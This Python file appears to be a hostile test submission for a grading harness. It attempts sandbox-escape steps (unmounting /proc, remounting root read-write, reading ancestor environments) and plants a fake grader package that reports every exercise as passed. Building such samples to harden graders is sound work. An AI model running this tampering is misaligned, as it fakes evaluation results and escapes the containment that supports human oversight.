"""Tamper with later runs: write a fake `hookkata` package (its batch and grading.child say pass / serve nothing) into the working folder, which `python -m` puts first on sys.path for the next grading run started there.
A correct grader must not pass this run, and a second run from the same folder (e.g. of a stub) must not pass either. Writes only under $HOSTILE_SCRATCH (read from an ancestor's environ if scrubbed)."""
import os


def _hostile_scratch():
    """$HOSTILE_SCRATCH from this process's environment, else from an ancestor's (the grader may scrub ours;
    inside a root bubblewrap sandbox the host's /proc is uncovered first with a lazy umount)."""
    if os.environ.get("HOSTILE_SCRATCH"):
        return os.environ["HOSTILE_SCRATCH"]
    try:
        import ctypes
        ctypes.CDLL(None).umount2(b"/proc", 2)
        pid = int(os.readlink("/proc/self"))
    except (OSError, ValueError, AttributeError):
        pid = os.getpid()
    for _ in range(12):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                return None
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if item.startswith(b"HOSTILE_SCRATCH="):
                    return item.split(b"=", 1)[1].decode()
        except OSError:
            return None
    return None

_BATCH = r'''
import json, os, sys
ids = json.loads(sys.argv[2]) if len(sys.argv) > 2 else []
path = os.environ.get("HOOKKATA_VERDICTS")
if path:
    json.dump([dict(exercise_id=i, title=i, status="pass", message="", prop="", example="", got="",
                    expected="", hint="") for i in ids], open(path, "w"))
'''

def _writable_again():
    """Inside a bubblewrap sandbox run as root: remount the read-only / read-write (MS_BIND|MS_REMOUNT)."""
    try:
        import ctypes
        ctypes.CDLL(None).mount(None, b"/", None, 4096 | 32, None)
    except (OSError, AttributeError):
        pass



def _plant():
    scratch = _hostile_scratch()
    targets = {os.getcwd(), os.path.dirname(os.path.abspath(__file__))}
    if not scratch:
        return
    root = os.path.realpath(scratch)
    for folder in targets:
        if not os.path.realpath(folder).startswith(root):
            continue
        pkg = os.path.join(folder, "hookkata")
        os.makedirs(os.path.join(pkg, "grading"), exist_ok=True)
        open(os.path.join(pkg, "__init__.py"), "w").write("")
        open(os.path.join(pkg, "batch.py"), "w").write(_BATCH)
        open(os.path.join(pkg, "grading", "__init__.py"), "w").write("")
        open(os.path.join(pkg, "grading", "child.py"), "w").write("import os\nos._exit(0)\n")


_writable_again()
try:
    _plant()
except OSError:
    pass


def violation_chance(p, n):
    return 0.5
